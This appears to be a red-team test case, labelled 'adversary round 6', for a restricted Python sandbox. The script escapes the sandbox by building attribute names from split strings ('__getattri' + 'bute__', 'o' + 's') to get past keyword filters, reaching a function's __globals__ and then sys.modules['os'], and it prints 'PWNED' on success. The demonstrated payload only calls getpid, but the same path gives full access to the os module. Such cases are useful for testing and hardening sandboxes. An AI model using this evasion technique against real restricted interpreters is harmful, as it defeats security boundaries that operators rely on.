# adversary round 6: variant of route 1: type(operator.methodcaller('keys')) is the methodcaller class; MC('__getattribute__', computed) on a function -> __globals__ -> sys.modules['os'].getpid
import operator, dataclasses
MC = type(operator.methodcaller('keys'))
ga = '__getattri' + 'bute__'
g = MC(ga, '__glo' + 'bals__')(dataclasses.fields)
s = g['s' + 'ys']
o = s.modules['o' + 's']
pid = MC('get' + 'pid')(o)
print(type(s).__name__, s.__name__, o.__name__, pid)
if o.__name__ == 'o' + 's':
    print("PWN" + "ED")
